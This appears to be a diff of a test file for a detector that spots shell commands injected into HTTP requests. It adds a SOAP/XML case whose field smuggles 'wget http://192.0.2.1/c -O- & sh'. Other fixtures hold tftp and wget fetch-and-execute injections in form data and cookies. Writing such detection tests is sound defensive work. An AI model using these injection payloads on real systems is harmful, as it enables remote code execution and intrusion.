@@ -115,6 +115,10 @@ it('what no known application explains is a command where a shell would find one
       'POST /upload HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="a"\n\n;tftp -g -r m 192.0.2.1;\n--b--',
       [';tftp -g -r m 192.0.2.1;'],
     ],
+    [
+      'POST /soap HTTP/1.1\nContent-Type: text/xml\n\n<?xml version="1.0"?><a><b>NTP</b><c>1;wget http://192.0.2.1/c -O- &amp; sh</c>\n</a>',
+      ['1;wget http://192.0.2.1/c -O- & sh'],
+    ],
     ['GET /?cmd=1 HTTP/1.1\nCookie: a=;wget http://192.0.2.1/c', ['a=;wget http://192.0.2.1/c']],
     ['GET /shop?next=http://192.0.2.1/curl HTTP/1.1\nUser-Agent: curl/8.5.0 (+http://192.0.2.1/)', []],
     ['GET /search?q=how+to+use+curl+and+sh HTTP/1.1', []],
